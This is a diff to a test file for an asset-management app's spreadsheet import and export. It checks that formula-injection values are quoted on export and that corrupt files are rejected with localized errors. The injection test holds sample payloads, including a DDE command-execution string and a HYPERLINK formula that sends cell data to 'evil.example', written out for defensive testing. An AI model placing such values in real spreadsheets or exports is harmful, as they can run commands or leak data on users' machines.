@@ -263,6 +263,60 @@ describe('import rules', () => {
     expect((await importFile(file, 'xlsx')).status).toMatchObject({ status: 'success', created: 1, errorCount: 1 });
   });
 
+  it('quotes exported text a spreadsheet program would evaluate (OWASP), and reads it back unchanged', async () => {
+    const evil = payload(await call<DepartmentInfo>('POST', '/api/Department', { deptName: '=cmd|\' /C calc\'!A0' }));
+    const formulas = payload(
+      await call<AssetClassifyInfo>('POST', '/api/AssetClassify', { classifyName: '@Formulas', attributes: [{ name: '+Note', attributeType: 0 }] }),
+    );
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    payload(
+      await call('POST', '/api/Asset', {
+        assetCoding: '-INJ-1',
+        assetName: name,
+        specifications: '+41 79 555 0101',
+        supplier: "'=already quoted",
+        depositSite: '=1+1',
+        affiliatedDept: evil.id,
+        classify: formulas.id,
+        attributeValues: { '+Note': '-2+3' },
+      }),
+    );
+    const exported = payload(await call<ExcelFile>('GET', '/api/Excel/Export?search=INJ-1', undefined, 'en'));
+    expect(exported.rowCount).toBe(1);
+    const book = XLSX.read(Buffer.from(exported.fileData, 'base64'));
+    const sheet = book.Sheets.Assets;
+    const rows = XLSX.utils.sheet_to_json<Row>(sheet, { header: 1, raw: true, defval: null });
+    expect(rows[0]).toEqual([...EN_HEADER, "'+Note"]);
+    expect(rows[1]).toEqual([
+      "'-INJ-1",
+      `'${name}`,
+      "'+41 79 555 0101",
+      '',
+      "''=already quoted",
+      null,
+      null,
+      null,
+      "'=cmd|' /C calc'!A0",
+      null,
+      "'=1+1",
+      "'@Formulas",
+      "'-2+3",
+    ]);
+    // Written as text cells, no formula among them.
+    for (const [ref, cell] of Object.entries(sheet)) if (!ref.startsWith('!')) expect((cell as XLSX.CellObject).f).toBeUndefined();
+    // The template's attribute headers are quoted too.
+    const template = payload(await call<ExcelFile>('GET', `/api/Excel/Template?classifyId=${formulas.id}`));
+    const templateRows = XLSX.utils.sheet_to_json<Row>(XLSX.read(Buffer.from(template.fileData, 'base64')).Sheets.Assets, { header: 1 });
+    expect(templateRows[0]).toEqual([...EN_HEADER, "'+Note"]);
+
+    const before = await snapshot(server.db);
+    const { status } = await importFile(exported.fileData, 'xlsx');
+    expect(status).toMatchObject({ status: 'success', created: 0, updated: 0, unchanged: 1, errorCount: 0 });
+    expect((await snapshot(server.db)).assets).toEqual(before.assets);
+    const { rows: saved } = await server.db.query('SELECT asset_name, supplier, deposit_site FROM assets WHERE asset_coding = $1', ['-INJ-1']);
+    expect(saved).toEqual([{ asset_name: name, supplier: "'=already quoted", deposit_site: '=1+1' }]);
+  });
+
   it('updates assets by code: given columns change, missing columns stay, empty cells clear', async () => {
     payload(await call('POST', '/api/Asset', { assetCoding: 'UPD-1', assetName: 'Before', unit: 'box', buyPrice: 5, affiliatedDept: dept.sales.id, epc: 'E1' }));
     // Excel dates as serial numbers, en headers, columns in another order, unit left out.
@@ -319,9 +373,10 @@ describe('import rules', () => {
     const wrongType = { statusCode: 10004, resultInfo: 'Only .xlsx, .xls or .csv files can be imported.' };
     expect(await refuse({ suffix: 'pdf', fileData: fileOf([ZH_HEADER], 'xlsx') })).toEqual(wrongType);
     expect(await refuse({ fileName: 'assets.numbers', fileData: fileOf([ZH_HEADER], 'xlsx') })).toEqual(wrongType);
+    // A picture under a spreadsheet's suffix is no spreadsheet at all (10006, not 10004).
     const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).toString('base64');
-    expect(await refuse({ suffix: 'csv', fileData: png })).toEqual(wrongType);
-    expect((await refuse({ suffix: 'xls', fileData: png }, 'zh')).resultInfo).toBe('只能导入 .xlsx、.xls 或 .csv 文件。');
+    expect((await refuse({ suffix: 'csv', fileData: png })).statusCode).toBe(10006);
+    expect((await refuse({ suffix: 'xls', fileData: png }, 'zh')).resultInfo).toMatch(/^文件解析出现异常：该文件不是可读取的表格/);
     const tooLarge = { statusCode: 10005, resultInfo: 'The imported file cannot be larger than 3MB.' };
     const big = Buffer.alloc(3 * 1024 * 1024 + 1, 'a').toString('base64');
     expect(await refuse({ suffix: 'csv', fileData: big })).toEqual(tooLarge);
@@ -343,6 +398,40 @@ describe('import rules', () => {
     expect(await snapshot(server.db)).toEqual(before);
     // Sub-users need 101 to import (checked before anything else).
     expect((await server.call('POST', '/api/Excel', { body: { suffix: 'csv' } })).body.statusCode).toBe(19);
+  });
+
+  it('reports a corrupt or non-spreadsheet file renamed .xlsx as unreadable (10006) in the user\'s language, not as a stale template', async () => {
+    const before = await snapshot(server.db);
+    const refuse = async (suffix: string, bytes: Uint8Array, lang = 'en') =>
+      (await call('POST', '/api/Excel', { explain: 3, suffix, fileData: Buffer.from(bytes).toString('base64') }, lang)).body;
+    const unreadableEn = {
+      statusCode: 10006,
+      resultInfo:
+        'File parsing exception occurred: this file is not a readable spreadsheet (.xlsx, .xls or .csv), or it is damaged. Save it as .xlsx in Excel and import it again.',
+    };
+    const unreadableZh = {
+      statusCode: 10006,
+      resultInfo: '文件解析出现异常：该文件不是可读取的表格（.xlsx、.xls 或 .csv），或已损坏。请用 Excel 另存为 .xlsx 后再导入。',
+    };
+    const text = Buffer.from('Meeting notes\nBring the laptops back on Friday.\n');
+    const pdf = Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n\x01\x02', 'latin1');
+    const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);
+    for (const bytes of [text, pdf, jpeg]) {
+      expect(await refuse('xlsx', bytes)).toEqual(unreadableEn);
+      expect(await refuse('xlsx', bytes, 'zh')).toEqual(unreadableZh);
+    }
+    // A truncated .xls (an OLE file SheetJS fails on): 10006 in the user's language, not
+    // SheetJS's English exception text.
+    const workbook = XLSX.utils.book_new();
+    XLSX.utils.book_append_sheet(workbook, XLSX.utils.aoa_to_sheet([ZH_HEADER, ['X-1', 'Laptop']]), 'Sheet1');
+    const xls = XLSX.write(workbook, { type: 'buffer', bookType: 'biff8' }) as Buffer;
+    const cut = xls.subarray(0, 600);
+    expect(await refuse('xls', cut, 'zh')).toEqual({ statusCode: 10006, resultInfo: '文件解析出现异常：文件已损坏或不完整。请检查文件是否按模板填写。' });
+    // What stays as it was: a real CSV whose headers are of another time is 10009; text
+    // named .xls (tab-separated, as some systems save it) is read.
+    expect((await refuse('csv', Buffer.from(`资产编码,备注\nC-1,x\n`))).statusCode).toBe(10009);
+    expect((await refuse('xls', Buffer.from(`资产编码\t备注\nC-1\tx\n`))).statusCode).toBe(10009);
+    expect(await snapshot(server.db)).toEqual(before);
   });
 
   it('runs one import per company at a time (10007)', async () => {
